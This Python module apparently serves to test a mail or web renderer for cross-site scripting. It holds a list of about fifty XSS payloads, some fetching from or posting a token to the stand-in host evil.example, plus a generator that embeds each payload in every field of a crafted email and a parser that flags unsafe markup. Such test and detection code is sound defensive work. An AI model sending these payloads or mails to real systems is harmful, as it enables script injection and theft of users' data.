"""What somebody writes who wants a page to run a script of theirs, or to fetch something.

Each piece calls `alert`, or leads to a host below `evil.example`: a browser that does either has
been had. `attacks` are mails with such a piece wherever a mail has room for one; `findings` says
what a page has that none of ours may have.
"""

from collections.abc import Iterator, Sequence
from email.header import Header
from email.utils import quote
from html.parser import HTMLParser
from urllib.parse import quote as percent

PIECES = (
    "<script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '"><img src="x" onerror="alert(1)">',
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><mglyph><style><!--</style><img title='--&gt;&lt;img onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</option></select><img src=x onerror=alert(1)>",
    "</pre></dd></dl><img src=x onerror=alert(1)>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<input autofocus onfocus=alert(1)>",
    '" autofocus onfocus=alert(1) x="',
    "' onmouseover=alert(1) x='",
    "` onmouseover=alert(1) x=`",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='//evil.example/x.swf'>",
    "<a href='javascript:alert(1)'>press here</a>",
    "<a href='java\tscript:alert(1)'>press here</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>press here</a>",
    "<a href='&#106;avascript:alert(1)'>press here</a>",
    "javascript:alert(1)",
    "<img src='//evil.example/pixel.gif'>",
    "<img src='cid:x' srcset='//evil.example/pixel.gif 2x'>",
    "<link rel='stylesheet' href='//evil.example/x.css'>",
    "<style>@import '//evil.example/x.css';</style>",
    "<p style=\"background:url('//evil.example/x.gif')\">x</p>",
    '<p style="width:expression(alert(1));behavior:url(#x)">x</p>',
    "<base href='//evil.example/'>",
    "<meta http-equiv='refresh' content='0;url=//evil.example/'>",
    "<form action='//evil.example/'><input name=token><button>press here</button></form>",
    "<button form='x' formaction='//evil.example/'>press here</button>",
    "{{ 7*7 }}{% raw %}",
    "${alert(1)}",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\ufeff<script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "\u202e>tpircs/<)1(trela>tpircs<",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<plaintext>",
)

_EVENT = "on"
_LEADING = frozenset(
    {"action", "background", "data", "formaction", "href", "poster", "src", "srcset"}
)
_NEVER = frozenset({"base", "embed", "object", "plaintext", "style", "svg", "math"})


def attacks(
    to: str, author: str = "mallory@evil.example", pieces: Sequence[str] = PIECES
) -> Iterator[bytes]:
    """Give a mail for each piece, which has it as subject, name, file name, text and HTML."""
    for place, piece in enumerate(pieces):
        yield _mail(piece, place, to, author)


def findings(page: str) -> list[str]:
    """Say what a page has that would run or fetch something which is not ours."""
    found = _Looking()
    found.feed(page)
    found.close()
    return found.found


class _Looking(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        said = {name: value or "" for name, value in attrs}
        if tag in _NEVER or (tag == "meta" and "http-equiv" in said):
            self.found.append(f"<{tag}>")
        if tag == "script" and not said.get("src", "").startswith("/assets/"):
            self.found.append("a script in the page")
        if tag == "iframe" and ("sandbox" not in said or said["sandbox"]):
            self.found.append("a frame that is no sandbox")
        for name, value in said.items():
            if name.startswith(_EVENT) or name in {"style", "srcdoc"}:
                self.found.append(f"{name}={value}")
            if name in _LEADING and not _is_ours(value):
                self.found.append(f"{name}={value}")


def _is_ours(address: str) -> bool:
    own = address.startswith(("/", "?", "#")) and not address.startswith("//")
    # A file of the mail itself, in a frame where nothing is fetched.
    return own or address == "" or address.startswith("cid:")


def _mail(piece: str, place: int, to: str, author: str) -> bytes:
    line = " ".join(piece.replace("\x00", "").split())
    name = Header(line, "utf-8").encode()
    file = percent(line, safe="")
    lines = (
        f"From: {name} <{author}>",
        f"To: {to}",
        f"Subject: {name}",
        f"Message-ID: <{place}@evil.example>",
        f"X-Mailer: {quote(line) if line.isascii() else place}",
        "MIME-Version: 1.0",
        'Content-Type: multipart/mixed; boundary="b"',
        "",
        "--b",
        'Content-Type: multipart/alternative; boundary="a"',
        "",
        "--a",
        "Content-Type: text/plain; charset=utf-8",
        "",
        f"Number {place} of mails that mean no good.",
        piece,
        "--a",
        "Content-Type: text/html; charset=utf-8",
        "",
        f"<p>Number {place} of mails that mean no good.</p>{piece}",
        "--a--",
        "--b",
        "Content-Type: text/html; name=x.html",
        f"Content-Disposition: attachment; filename*=UTF-8''{file}",
        "",
        piece,
        "--b--",
        "",
    )
    return "\r\n".join(lines).encode("utf-8", "replace")
